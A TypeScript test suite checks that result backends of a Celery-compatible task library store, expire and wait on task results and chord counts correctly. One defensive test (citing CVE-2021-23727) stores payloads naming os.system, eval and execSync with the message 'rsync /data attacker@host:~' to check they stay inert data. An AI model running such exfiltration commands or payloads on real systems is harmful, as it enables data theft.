/**
 * The result backend contract, run against every driver. Each test uses fresh task ids, so suites for several
 * drivers and files can share one server.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { RemoteTaskError } from '../../errors.js';
import { exceptionFromMeta } from '../../protocol/exception.js';
import { uuid } from '../../protocol/ids.js';
import { States, type ResultMeta } from '../../types.js';
import type { ResultBackend } from '../backend.js';
import { buildMeta } from '../meta.js';

export interface BackendSuiteOptions {
  /** Creates a new, unconnected backend; `resultExpires` in seconds (null = never). */
  create(options: { resultExpires: number | null }): Promise<ResultBackend> | ResultBackend;
  /**
   * What the backend cannot do. The tests of those guarantees are reported as skipped, and the suite checks that
   * the backend's capabilities say the same.
   */
  lacks?: {
    /** No `saveGroup`/`getGroup` (capabilities.groups false): they must fail loudly. */
    readonly groups?: true;
    /** Results do not survive on their own, so they do not expire either (capabilities.persistent false). */
    readonly persistence?: true;
    /** No native chord counter (capabilities.chords 'none', no `chordCounter`): chords are refused. */
    readonly chords?: true;
    /**
     * Only Celery's database columns are kept: `children`, `group_id` and `parent_id` are not stored (Celery's
     * database backend does not store them either), so they read back as `[]` and absent.
     */
    readonly membership?: true;
  };
}

function meta(taskId: string, state: string, result: unknown, extra: Partial<ResultMeta> = {}): ResultMeta {
  return { ...buildMeta({ state, result, request: { taskId } }), ...extra };
}

export function backendConformance(driver: string, options: BackendSuiteOptions): void {
  describe(`backend conformance: ${driver}`, () => {
    const open: ResultBackend[] = [];
    const lacks = options.lacks ?? {};

    async function connected(resultExpires: number | null = 86_400): Promise<ResultBackend> {
      const backend = await options.create({ resultExpires });
      await backend.connect();
      open.push(backend);
      return backend;
    }

    afterEach(async () => {
      await Promise.all(open.splice(0).map((b) => b.close()));
    });

    it('reports nothing stored for an unknown task', async () => {
      const backend = await connected();
      expect(await backend.get(uuid())).toBeNull();
    });

    it('stores and reads back Celery task meta unchanged', async () => {
      const backend = await connected();
      const id = uuid();
      const stored = meta(
        id,
        States.SUCCESS,
        { answer: [1, 'two', null] },
        { group_id: 'g', parent_id: 'p' },
      );
      await backend.store(stored);
      if (lacks.membership) {
        const { group_id: _g, parent_id: _p, ...kept } = stored;
        expect(await backend.get(id)).toEqual(kept);
      } else expect(await backend.get(id)).toEqual(stored);
    });

    it('keeps an integer beyond 2^53 exact (a BigInt, as the JSON serializer decodes it)', async () => {
      const backend = await connected();
      const id = uuid();
      await backend.store(meta(id, States.SUCCESS, [9007199254740993n, -9007199254740993n, 5]));
      expect((await backend.get(id))?.result).toEqual([9007199254740993n, -9007199254740993n, 5]);
    });

    it('stores and reads back result_extended fields', async () => {
      const backend = await connected();
      const id = uuid();
      const stored = buildMeta({
        state: States.SUCCESS,
        result: 5,
        extended: true,
        request: {
          taskId: id,
          name: 'tasks.add',
          args: [2, 3],
          kwargs: { z: 'é' },
          worker: 'w@h',
          retries: 1,
          queue: 'q',
        },
      });
      await backend.store(stored);
      expect(await backend.get(id)).toEqual(stored);
    });

    it('never overwrites a stored SUCCESS', async () => {
      const backend = await connected();
      const id = uuid();
      await backend.store(meta(id, States.STARTED, { pid: 1, hostname: 'w@h' }));
      await backend.store(meta(id, States.SUCCESS, 42));
      await backend.store(meta(id, States.FAILURE, new Error('late duplicate')));
      await backend.store(meta(id, States.STARTED, { pid: 2, hostname: 'w@h' }));
      const got = await backend.get(id);
      expect(got?.status).toBe(States.SUCCESS);
      expect(got?.result).toBe(42);
    });

    it('stores a failure in Celery exception format', async () => {
      const backend = await connected();
      const id = uuid();
      await backend.store(meta(id, States.FAILURE, new TypeError('bad input')));
      const got = await backend.get(id);
      expect(got?.status).toBe(States.FAILURE);
      expect(got?.result).toEqual({
        exc_type: 'TypeError',
        exc_message: ['bad input'],
        exc_module: 'builtins',
      });
      expect(got?.traceback).toContain('bad input');
      expect(got?.date_done).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}$/);
    });

    it('wakes a waiter when the result is stored, by another connection when the backend is shared', async () => {
      const reader = await connected();
      const writer = reader.capabilities.shared ? await connected() : reader;
      const id = uuid();
      const progress: string[] = [];
      const waiting = reader.waitFor(id, { timeoutMs: 10_000, onProgress: (m) => progress.push(m.status) });
      await writer.store(meta(id, 'PROGRESS', { done: 1 }));
      await expect.poll(() => progress, { timeout: 5_000 }).toContain('PROGRESS');
      await writer.store(meta(id, States.SUCCESS, 'done'));
      const got = await waiting;
      expect(got.result).toBe('done');
    });

    it('delivers every progress update to onProgress, repeated states included (Celery on_message)', async () => {
      const reader = await connected();
      const writer = reader.capabilities.shared ? await connected() : reader;
      const id = uuid();
      const seen: unknown[] = [];
      const waiting = reader.waitFor(id, { timeoutMs: 20_000, onProgress: (m) => seen.push(m.result) });
      for (let i = 1; i <= 3; i++) {
        await writer.store(meta(id, 'PROGRESS', { current: i, total: 3 }));
        await expect.poll(() => seen.length, { timeout: 10_000 }).toBe(i);
      }
      await writer.store(meta(id, States.SUCCESS, 3));
      expect((await waiting).result).toBe(3);
      expect(seen).toEqual([1, 2, 3].map((current) => ({ current, total: 3 })));
    });

    it('gives up waiting with TimeoutError', async () => {
      const backend = await connected();
      await expect(backend.waitFor(uuid(), { timeoutMs: 50 })).rejects.toMatchObject({
        name: 'TimeoutError',
      });
    });

    it('forgets a result', async () => {
      const backend = await connected();
      const id = uuid();
      await backend.store(meta(id, States.SUCCESS, 1));
      await backend.forget(id);
      expect(await backend.get(id)).toBeNull();
    });

    it('declares in its capabilities what it lacks', async () => {
      const backend = await connected();
      expect(backend.capabilities.groups).toBe(!lacks.groups);
      expect(backend.capabilities.persistent).toBe(!lacks.persistence);
      expect(backend.capabilities.chords).toBe(lacks.chords ? 'none' : 'native');
    });

    it('deletes expired results on cleanup() and keeps the rest', async () => {
      const backend = await connected(1);
      const expired = uuid();
      const started = uuid();
      await backend.store(meta(expired, States.SUCCESS, 'old', { date_done: '2001-01-01T00:00:00.000000' }));
      await backend.store(meta(started, States.STARTED, { pid: 1, hostname: 'w@h' }));
      await backend.cleanup();
      if (!backend.capabilities.autoExpire) expect(await backend.get(expired)).toBeNull();
      // A state that is not ready has no date_done and is never deleted by cleanup (as Celery's).
      if (!lacks.persistence) expect((await backend.get(started))?.status).toBe(States.STARTED);
    });

    it.runIf(lacks.groups)(
      'refuses group operations with an error that names a backend that has them',
      async () => {
        const backend = await connected();
        const gid = uuid();
        await expect(backend.saveGroup(gid, { result: [[gid, null], []] })).rejects.toThrow(/redis|sqlite/);
        await expect(backend.getGroup(gid)).rejects.toThrow(/redis|sqlite/);
      },
    );

    it.skipIf(lacks.groups)('saves, restores and deletes group meta', async () => {
      const backend = await connected();
      const gid = uuid();
      const group = { result: [[gid, null], [[[uuid(), null], null]]] } as const;
      await backend.saveGroup(gid, structuredClone(group) as never);
      expect(await backend.getGroup(gid)).toEqual(group);
      await backend.deleteGroup(gid);
      expect(await backend.getGroup(gid)).toBeNull();
    });

    it.skipIf(lacks.persistence)('expires results after resultExpires when persistent', async () => {
      const backend = await connected(1);
      const id = uuid();
      await backend.store(meta(id, States.SUCCESS, 'short-lived'));
      expect((await backend.get(id))?.result).toBe('short-lived');
      // Backends that do not expire results themselves (the database) rely on cleanup (celery.backend_cleanup).
      const expired = async () => {
        if (!backend.capabilities.autoExpire) await backend.cleanup();
        return backend.get(id);
      };
      await expect.poll(expired, { timeout: 5_000, interval: 200 }).toBeNull();
      // An expired SUCCESS no longer guards the id: a new run of the same task id is recorded.
      await backend.store(meta(id, States.STARTED, null));
      expect((await backend.get(id))?.status).toBe(States.STARTED);
    });

    const chords = it.skipIf(lacks.chords);

    chords('counts chord parts in header order when chords are native', async () => {
      const backend = await connected();
      const counter = backend.chordCounter;
      expect(counter).toBeDefined();
      const gid = uuid();
      await counter!.setChordSize(gid, 2);
      const part = (taskId: string, groupIndex: number, result: number) =>
        ({ taskId, state: States.SUCCESS, result, groupIndex }) as const;
      expect(await counter!.addChordPart(gid, part('b', 1, 20))).toEqual({ ready: 1, size: 2, extra: 0 });
      expect(await counter!.addChordPart(gid, part('a', 0, 10))).toEqual({ ready: 2, size: 2, extra: 0 });
      expect(await counter!.chordParts(gid)).toEqual([
        [1, 'a', States.SUCCESS, 10],
        [1, 'b', States.SUCCESS, 20],
      ]);
      await counter!.deleteChord(gid);
      expect(await counter!.chordParts(gid)).toEqual([]);
    });

    chords(
      'counts a header part recorded twice (a redelivered task) once, when chords are native',
      async () => {
        const backend = await connected();
        const counter = backend.chordCounter!;
        const gid = uuid();
        await counter.setChordSize(gid, 2);
        const part = { taskId: 'a', state: States.SUCCESS, result: [1, 'x'], groupIndex: 0 };
        expect((await counter.addChordPart(gid, part)).ready).toBe(1);
        expect((await counter.addChordPart(gid, part)).ready).toBe(1);
        const failed = { taskId: 'b', state: States.FAILURE, result: { exc_type: 'E' }, groupIndex: null };
        expect(await counter.addChordPart(gid, failed)).toEqual({ ready: 2, size: 2, extra: 0 });
        expect(await counter.chordParts(gid)).toEqual([
          [1, 'a', States.SUCCESS, [1, 'x']],
          [1, 'b', States.FAILURE, { exc_type: 'E' }],
        ]);
        await counter.deleteChord(gid);
      },
    );

    chords('reports no size before setChordSize and counts parts added to a running chord', async () => {
      const backend = await connected();
      const counter = backend.chordCounter!;
      const gid = uuid();
      const part = (taskId: string) => ({ taskId, state: States.SUCCESS, result: null, groupIndex: null });
      expect((await counter.addChordPart(gid, part('a'))).size).toBeNull();
      await counter.setChordSize(gid, 1);
      await counter.addToChord(gid, 2);
      expect(await counter.addChordPart(gid, part('b'))).toEqual({ ready: 2, size: 1, extra: 2 });
      await counter.deleteChord(gid);
    });

    chords(
      'lets exactly one caller take a chord, complete or failing early, when chords are native',
      async () => {
        const backend = await connected();
        const counter = backend.chordCounter!;
        const part = (taskId: string, state: string = States.SUCCESS) => ({
          taskId,
          state,
          result: null,
          groupIndex: null,
        });
        const early = uuid();
        await counter.setChordSize(early, 2);
        await counter.addChordPart(early, part('a', States.FAILURE));
        expect(await counter.claimChord(early, 'complete')).toBe(false);
        const claims = await Promise.all([1, 2, 3].map(() => counter.claimChord(early, 'incomplete')));
        expect(claims.filter(Boolean)).toHaveLength(1);
        // Taken: a later part finds no size, so it neither sends nor fails the body again.
        expect((await counter.addChordPart(early, part('b'))).size).toBeNull();
        await counter.deleteChord(early);

        const done = uuid();
        await counter.setChordSize(done, 1);
        expect(await counter.claimChord(done, 'complete')).toBe(false);
        await counter.addChordPart(done, part('a'));
        expect(await counter.claimChord(done, 'incomplete')).toBe(false);
        const taken = await Promise.all([1, 2].map(() => counter.claimChord(done, 'complete')));
        expect(taken.filter(Boolean)).toHaveLength(1);
        expect(await counter.chordParts(done)).toEqual([[1, 'a', States.SUCCESS, null]]);
        await counter.deleteChord(done);
      },
    );

    chords('counts a redelivered part with a different result once, when chords are native', async () => {
      const backend = await connected();
      const counter = backend.chordCounter!;
      const gid = uuid();
      await counter.setChordSize(gid, 2);
      await counter.addChordPart(gid, { taskId: 'a', state: States.SUCCESS, result: 1, groupIndex: 0 });
      const again = await counter.addChordPart(gid, {
        taskId: 'a',
        state: States.SUCCESS,
        result: 2,
        groupIndex: 0,
      });
      expect(again).toEqual({ ready: 1, size: 2, extra: 0 });
      await counter.deleteChord(gid);
    });

    it('hands back a stored failure naming any class as data, never revived as that class', async () => {
      // Celery raises SecurityError for these (CVE-2021-23727); Celeriac never looks a class up by name at all.
      const backend = await connected();
      const payloads: [string | null, string][] = [
        ['os', 'system'],
        ['builtins', 'eval'],
        ['child_process', 'execSync'],
        ['__proto__', 'constructor'],
        [null, 'toString'],
      ];
      for (const [excModule, excType] of payloads) {
        const id = uuid();
        const stored = {
          exc_type: excType,
          exc_module: excModule,
          exc_message: ['rsync /data attacker@host:~'],
        };
        await backend.store(meta(id, States.FAILURE, stored));
        const read = (await backend.get(id)) ?? (await backend.waitFor(id, { timeoutMs: 10_000 }));
        expect(read.result).toEqual(stored);
        const error = exceptionFromMeta(read.result, read.traceback, id);
        expect(Object.getPrototypeOf(error)).toBe(RemoteTaskError.prototype);
        expect([error.excModule, error.excType, error.remoteMessage]).toEqual([
          excModule,
          excType,
          'rsync /data attacker@host:~',
        ]);
      }
    });

    it('declares chords none exactly when it has no chord counter', async () => {
      const backend = await connected();
      expect(backend.capabilities.chords === 'native').toBe(backend.chordCounter !== undefined);
    });
  });
}
